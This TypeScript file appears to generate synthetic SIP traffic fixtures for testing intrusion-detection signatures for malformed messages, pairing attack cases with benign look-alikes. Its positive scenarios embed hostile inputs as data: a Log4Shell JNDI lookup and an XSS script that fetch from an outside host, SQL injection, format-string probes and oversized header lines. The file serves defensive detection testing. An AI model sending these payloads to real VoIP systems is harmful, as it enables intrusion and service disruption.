  scenario('malformed/SIP-MAL-01/positive/oversize-uri-call-id-from.jsonl', 1301, '2026-11-20T06:10:00Z', (f, c) => {
    const src: Endpoint = { ip: '203.0.113.150', port: 5060 };
    f.request(
      base(f, src, { ruri: `sip:${'9'.repeat(400)}@${DOMAIN}`, to: { user: '9'.repeat(400), host: DOMAIN } }),
      PROXY,
      c.us,
    );
    f.request(base(f, src, { method: 'OPTIONS', callId: `${'A'.repeat(300)}@${src.ip}` }), PROXY, c.advanceMs(500));
    f.request(
      base(f, src, { method: 'OPTIONS', from: { user: '555', host: src.ip, display: 'x'.repeat(300), tag: 'a1' } }),
      PROXY,
      c.advanceMs(500),
    );
  });
  // WebRTC-style INVITE: ~2.6 KB of SDP with ICE candidates → oversize_content_length only,
  // which this signature leaves out on purpose (Snort's 1024-byte body limit, FP lesson).
  scenario('malformed/SIP-MAL-01/negative/webrtc-large-sdp.jsonl', 1302, '2026-11-20T18:00:00Z', (f, c) => {
    const src: Endpoint = { ip: '10.77.4.10', port: 5060 };
    let extra =
      'a=ice-ufrag:Fh3k\r\na=ice-pwd:8Zq9r1Yc0Lx2Vb7Nm4Kp5Jt6\r\na=fingerprint:sha-256 ' +
      Array.from({ length: 32 }, (_, i) => (i * 7 + 16).toString(16).toUpperCase().padStart(2, '0')).join(':') +
      '\r\n';
    for (let i = 0; i < 24; i++)
      extra += `a=candidate:${1000 + i} 1 udp ${2130706431 - i} 10.77.4.${10 + (i % 5)} ${50000 + i} typ host generation 0\r\n`;
    for (let i = 0; i < 8; i++)
      extra += `a=rtpmap:${96 + i} opus/48000/2\r\na=fmtp:${96 + i} minptime=10;useinbandfec=1\r\n`;
    f.request(base(f, src, { body: SDP(src.ip, 50000, extra), userAgent: 'JsSIP 3.10.1' }), PROXY, c.us);
  });
  writeEvents('malformed/SIP-MAL-01/negative/testbed-frag-3kb-sdp-real.jsonl', realFrag);
  writeEvents('malformed/SIP-MAL-01/negative/testbed-udp-real.jsonl', realUdp);

  // SIP-MAL-02 --------------------------------------------------------------------------------
  scenario(
    'malformed/SIP-MAL-02/positive/missing-call-id-empty-from-no-via.jsonl',
    1401,
    '2026-11-20T06:20:00Z',
    (f, c) => {
      const src: Endpoint = { ip: '203.0.113.151', port: 5060 };
      f.request(base(f, src, { method: 'OPTIONS', omit: ['Call-ID'] }), PROXY, c.us);
      f.request(base(f, src, { from: { host: '', raw: '' } }), PROXY, c.advanceMs(300));
      f.request(base(f, src, { method: 'REGISTER', ruri: `sip:${DOMAIN}`, omit: ['Via'] }), PROXY, c.advanceMs(300));
    },
  );
  // An RFC 2543-era device that omits Max-Forwards: not one of the five headers the sanity
  // check requires, so no alert.
  scenario('malformed/SIP-MAL-02/negative/legacy-no-max-forwards.jsonl', 1402, '2026-11-20T18:10:00Z', (f, c) => {
    const src: Endpoint = { ip: '10.77.4.20', port: 5060 };
    for (let i = 0; i < 3; i++) {
      f.request(
        base(f, src, { method: 'OPTIONS', maxForwards: null, userAgent: 'Cisco-SIPGateway/IOS-12.x' }),
        PROXY,
        c.us,
      );
      c.advanceMs(30000);
    }
  });
  writeEvents('malformed/SIP-MAL-02/negative/testbed-udp-real.jsonl', realUdp);

  // SIP-MAL-03 --------------------------------------------------------------------------------
  scenario('malformed/SIP-MAL-03/positive/cseq-mismatch-length-version.jsonl', 1501, '2026-11-20T06:30:00Z', (f, c) => {
    const src: Endpoint = { ip: '203.0.113.152', port: 5060 };
    f.request(base(f, src, { cseqMethod: 'REGISTER' }), PROXY, c.us);
    f.request(
      base(f, src, { method: 'OPTIONS', body: { type: 'text/plain', text: 'hello' }, contentLength: 500 }),
      PROXY,
      c.advanceMs(300),
    );
    f.request(
      base(f, src, { method: 'OPTIONS', startLine: `OPTIONS sip:1001@${DOMAIN} SIP/7.0` }),
      PROXY,
      c.advanceMs(300),
    );
  });
  // Extension methods (RFC 3262/3265/3311/3428/3515/3903/6086) are valid SIP, not anomalies.
  scenario('malformed/SIP-MAL-03/negative/extension-methods.jsonl', 1502, '2026-11-20T18:20:00Z', (f, c) => {
    const src: Endpoint = { ip: '10.77.4.30', port: 5060 };
    for (const method of ['PUBLISH', 'MESSAGE', 'INFO', 'UPDATE', 'PRACK', 'REFER', 'NOTIFY', 'SUBSCRIBE']) {
      f.request(
        base(f, src, {
          method,
          ...(method === 'MESSAGE' ? { body: { type: 'text/plain', text: 'Meeting moved to 3pm' } } : {}),
        }),
        PROXY,
        c.us,
      );
      c.advanceMs(200);
    }
  });
  writeEvents('malformed/SIP-MAL-03/negative/testbed-udp-real.jsonl', realUdp);

  // SIP-MAL-04 --------------------------------------------------------------------------------
  // ET 2003474: "REGISTER" with no Request-URI and no version (Asterisk DoS).
  scenario(
    'malformed/SIP-MAL-04/positive/register-without-uri-or-version.jsonl',
    1601,
    '2026-11-20T06:40:00Z',
    (f, c) => {
      const src: Endpoint = { ip: '203.0.113.153', port: 5060 };
      f.request(base(f, src, { method: 'REGISTER', startLine: 'REGISTER' }), REGISTRAR, c.us);
    },
  );
  // Format-string probe in User-Agent and From display name.
  scenario('malformed/SIP-MAL-04/positive/format-string-user-agent.jsonl', 1602, '2026-11-20T06:41:00Z', (f, c) => {
    const src: Endpoint = { ip: '203.0.113.154', port: 5060 };
    f.request(
      base(f, src, {
        method: 'OPTIONS',
        userAgent: '%n%n%n%n%s%s%s%s',
        from: { user: '100', host: src.ip, display: '%x%x%x%x', tag: 'f1' },
      }),
      PROXY,
      c.us,
    );
  });
  // CVE-2005-4050-style: one 10 KB header line (an overflow of the line buffer).
  scenario('malformed/SIP-MAL-04/positive/ten-kb-header-line.jsonl', 1603, '2026-11-20T06:42:00Z', (f, c) => {
    const src: Endpoint = { ip: '203.0.113.155', port: 5060 };
    f.request(base(f, src, { extraHeaders: [`Subject: ${'A'.repeat(10000)}`] }), PROXY, c.us);
  });
  // Large but legitimate: the testbed's 3.5 KB INVITE plus display names with a percent sign.
  scenario('malformed/SIP-MAL-04/negative/percent-in-display-name.jsonl', 1604, '2026-11-20T18:30:00Z', (f, c) => {
    const src: Endpoint = { ip: '10.77.4.40', port: 5060 };
    f.request(
      base(f, src, { from: { user: '4040', host: DOMAIN, display: 'Sales 100% Team', tag: 'p1' } }),
      PROXY,
      c.us,
    );
    f.request(
      base(f, src, { method: 'OPTIONS', userAgent: 'Acme-Phone/2.0 (50%-rebate edition)' }),
      PROXY,
      c.advanceMs(100),
    );
  });
  writeEvents('malformed/SIP-MAL-04/negative/testbed-frag-3kb-sdp-real.jsonl', realFrag);

  // SIP-MAL-05 --------------------------------------------------------------------------------
  scenario('malformed/SIP-MAL-05/positive/sqli-in-from-display.jsonl', 1701, '2026-11-20T06:50:00Z', (f, c) => {
    const src: Endpoint = { ip: '203.0.113.160', port: 5060 };
    f.request(
      base(f, src, {
        method: 'REGISTER',
        ruri: `sip:${DOMAIN}`,
        from: { user: '1001', host: DOMAIN, display: "' OR '1'='1' --", tag: 'q1' },
        to: { user: '1001', host: DOMAIN },
      }),
      REGISTRAR,
      c.us,
    );
  });
  scenario('malformed/SIP-MAL-05/positive/log4shell-user-agent.jsonl', 1702, '2026-11-20T06:51:00Z', (f, c) => {
    const src: Endpoint = { ip: '203.0.113.161', port: 5060 };
    f.request(base(f, src, { method: 'OPTIONS', userAgent: '${jndi:ldap://203.0.113.161:1389/Exploit}' }), PROXY, c.us);
  });
  scenario('malformed/SIP-MAL-05/positive/xss-in-caller-name.jsonl', 1703, '2026-11-20T06:52:00Z', (f, c) => {
    const src: Endpoint = { ip: '203.0.113.162', port: 5060 };
    f.request(
      base(f, src, {
        from: { user: '2000', host: src.ip, display: "<script>fetch('//203.0.113.162/c')</script>", tag: 'x1' },
      }),
      PROXY,
      c.us,
    );
  });
  // O'Brien, dial strings with * and #, a UUID Call-ID and a hyphenated UA: no payload.
  scenario('malformed/SIP-MAL-05/negative/obrien-and-dial-strings.jsonl', 1704, '2026-11-20T18:40:00Z', (f, c) => {
    const src: Endpoint = { ip: '10.77.4.50', port: 5060 };
    f.request(
      base(f, src, {
        from: { user: '3050', host: DOMAIN, display: "Seán O'Brien", tag: 'o1' },
        to: { user: '*72#1001', host: DOMAIN },
        ruri: `sip:*72#1001@${DOMAIN}`,
        callId: '3f2b8c1e-9d4a-4e6f-b1a2-7c5d0e9f8a6b',
        userAgent: "Grandstream GXP2170 1.0.11.23 (O'Brien-test)",
      }),
      PROXY,
      c.us,
    );
    f.request(
      base(f, src, {
        method: 'MESSAGE',
        from: { user: '3050', host: DOMAIN, display: 'Dev & Ops', tag: 'o2' },
        body: { type: 'text/plain', text: "SELECT 'lunch' FROM menu; -- can't wait" },
      }),
      PROXY,
      c.advanceMs(1000),
    );
  });
  writeEvents('malformed/SIP-MAL-05/negative/testbed-udp-real.jsonl', realUdp);

  // SIP-MAL-06 --------------------------------------------------------------------------------
  // A fuzzer (PROTOS c07-sip / Voiper style): 40 broken messages of varied kinds in 8 s.
  scenario('malformed/SIP-MAL-06/positive/fuzzing-burst.jsonl', 1801, '2026-11-20T07:00:00Z', (f, c) => {
    const src: Endpoint = { ip: '203.0.113.170', port: 5060 };
    const mutations: Array<Partial<RequestSpec>> = [
      { omit: ['Call-ID'] },
      { cseqMethod: 'BYE' },
      { contentLength: 999, body: { type: 'text/plain', text: 'x' } },
      { startLine: `INVITE sip:1001@${DOMAIN} SIP/1.7` },
      { omit: ['From'] },
      { maxForwards: -3 as number },
      { extraHeaders: ['Expires: soon'] },
      { ruri: `sip:${'%'.repeat(300)}@${DOMAIN}` },
    ];
    for (let i = 0; i < 40; i++) {
      f.request(
        base(f, src, {
          ...(mutations[i % mutations.length] ?? {}),
          ruri: mutations[i % mutations.length]?.ruri ?? `sip:tester@${DOMAIN}`,
        }),
        PROXY,
        c.us,
      );
      c.advanceMs(200);
    }
  });
  // One broken phone: every REGISTER refresh declares a wrong Content-Length, once a minute.
  scenario('malformed/SIP-MAL-06/negative/one-broken-phone-slow.jsonl', 1802, '2026-11-20T19:00:00Z', (f, c) => {
    const src: Endpoint = { ip: '10.77.4.60', port: 5060 };
    for (let i = 0; i < 20; i++) {
      f.request(
        base(f, src, {
          method: 'REGISTER',
          ruri: `sip:${DOMAIN}`,
          callId: 'broken01@10.77.4.60',
          cseq: 1 + i,
          body: { type: 'text/plain', text: '' },
          contentLength: 4,
          expires: 60,
        }),
        REGISTRAR,
        c.us,
      );
      c.advanceMs(60000);
    }
  });
  writeEvents('malformed/SIP-MAL-06/negative/testbed-udp-real.jsonl', realUdp);
}

async function main(): Promise<void> {
  const realUdp = await decodeCapture('udp.pcap');
  const realFrag = await decodeCapture('frag.pcap');
  recon(realUdp);
  auth(realUdp);
  dos(realUdp);
  malformed(realUdp, realFrag);
  for (const line of written) process.stdout.write(`${line}\n`);
}

main().catch((error: unknown) => {
  process.stderr.write(`${error instanceof Error ? (error.stack ?? error.message) : String(error)}\n`);
  process.exit(1);
});
